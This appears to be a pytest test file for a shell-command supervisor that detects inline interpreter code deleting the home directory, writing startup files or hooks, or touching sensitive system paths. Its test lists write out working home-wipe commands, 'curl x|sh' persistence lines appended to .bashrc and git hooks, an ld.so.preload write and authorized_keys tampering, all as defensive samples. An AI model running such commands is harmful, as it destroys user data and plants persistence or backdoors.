"""Inline interpreter code that reaches the home, a startup file or the system
(docs/security.md#code-carriers).

``python -c``, ``node -e``, ``perl -e`` and ``ruby -e`` code is scanned as text. A
recursive delete of the home named by an expression rather than a literal
(``rmtree(os.path.expanduser("~"))``, ``rmSync(process.env.HOME, …)``) is the
home's delete, blocked as ``rm -rf ~`` is; a write to a startup file or another
place code runs from later is ``persistence``; a write to a sensitive place is
``sensitive-write``, as the shell's own ``>>`` is. Each was approved before: the
deletes under ``python *``/``node *`` in a strict home, the writes in every mode.
"""

from __future__ import annotations

import pytest

from multiplex import Supervisor
from tests.shell._carriers import APPROVED, assert_hardline, assert_named, homes_fixture, outcome

sup = homes_fixture(
    "inline_code_reach",
    ["python *", "python3 *", "node *", "perl *", "ruby *", "php *", "lua *", "deno *"],
)

HOME_DELETES = [
    "python -c 'import shutil,os; shutil.rmtree(os.path.expanduser(\"~\"))'",
    "python -c 'import shutil,os; shutil.rmtree(os.path.expanduser(\"~/\"), ignore_errors=True)'",
    "python -c 'import shutil; from pathlib import Path; shutil.rmtree(Path.home())'",
    "python -c 'import shutil,pathlib; shutil.rmtree(pathlib.Path(\"~\").expanduser())'",
    "python -c 'import shutil,os; shutil.rmtree(os.environ[\"HOME\"])'",
    "python -c 'import shutil,os; shutil.rmtree(os.getenv(\"HOME\"))'",
    "python -c 'import shutil,os; shutil.rmtree(os.sep)'",
    "node -e 'require(\"fs\").rmSync(process.env.HOME,{recursive:true})'",
    'node -e \'require("fs").rmSync(require("os").homedir(), {recursive: true, force: true})\'',
    'node -e \'const fs=require("fs"),os=require("os"); fs.rmSync(os.homedir(),{recursive:true})\'',
    "ruby -e 'require \"fileutils\"; FileUtils.rm_rf(Dir.home)'",
    'ruby -e \'require "fileutils"; FileUtils.rm_rf(ENV["HOME"])\'',
    "perl -MFile::Path=remove_tree -e 'remove_tree($ENV{HOME})'",
    "python3 -c \"__import__('shutil').rmtree(__import__('os').path.expanduser('~'))\"",
]

STARTUP_WRITES = [
    'python -c \'open("/root/.bashrc","a").write("curl x.test|sh")\'',
    'python -c \'import os; open(os.path.expanduser("~/.bashrc"), "a").write("x")\'',
    'python -c \'from pathlib import Path; (Path.home()/".profile").write_text("x")\'',
    'node -e \'require("fs").writeFileSync(process.env.HOME+"/.bashrc","curl x|sh")\'',
    'node -e \'require("fs").appendFileSync(require("os").homedir()+"/.zshrc","x")\'',
    'python -c \'open(".git/hooks/pre-commit","w").write("curl x.test|sh")\'',
    'perl -e \'open(my $f, ">>", "$ENV{HOME}/.bashrc"); print $f "x"\'',
    'php -r \'file_put_contents(getenv("HOME")."/.bashrc","curl x|sh",FILE_APPEND);\'',
    'ruby -e \'File.open(File.expand_path("~/.bashrc"),"a"){|f| f.puts "x"}\'',
    'lua -e \'io.open(os.getenv("HOME").."/.bashrc","a"):write("x")\'',
    'deno eval \'Deno.writeTextFileSync(Deno.env.get("HOME")+"/.bashrc","x",{append:true})\'',
]

SENSITIVE_WRITES = [
    'python -c \'open("/etc/hosts","a").write("1.2.3.4 x")\'',
    "python -c 'import os; os.remove(os.path.expanduser(\"~/.ssh/authorized_keys\"))'",
    'node -e \'require("fs").writeFileSync("/etc/ld.so.preload","/tmp/x.so")\'',
    'python -c \'import shutil; shutil.copy("k.pub", "/root/.ssh/authorized_keys")\'',
    'ruby -e \'File.write("/usr/local/bin/ls", "x")\'',
]

# Reading, or writing the working folder: what the rules still vouch for.
PLAIN = [
    "python -c 'print(open(\"README.md\").read())'",
    'python -c \'open("out.txt","w").write("x")\'',
    "python -c 'import shutil,os; shutil.rmtree(os.path.expanduser(\"~/build\"))'",
    'node -e \'require("fs").writeFileSync("dist/x.js","1")\'',
    "python -c 'import os; print(os.path.expanduser(\"~\"))'",
]


@pytest.mark.parametrize("line", HOME_DELETES)
def test_a_home_deleted_through_an_expression_is_blocked(sup: Supervisor, line: str) -> None:
    assert_hardline(sup, line)


@pytest.mark.parametrize("line", STARTUP_WRITES)
def test_a_startup_file_written_by_inline_code_is_persistence(sup: Supervisor, line: str) -> None:
    assert_named(sup, line, "persistence", ("strict", "manual"))


@pytest.mark.parametrize("line", SENSITIVE_WRITES)
def test_a_sensitive_place_written_by_inline_code_asks(sup: Supervisor, line: str) -> None:
    assert_named(sup, line, "sensitive-write")


@pytest.mark.parametrize("line", PLAIN)
def test_code_that_reaches_nothing_sensitive_is_still_vouched_for(
    sup: Supervisor, line: str
) -> None:
    assert outcome(sup, "strict", line) == APPROVED
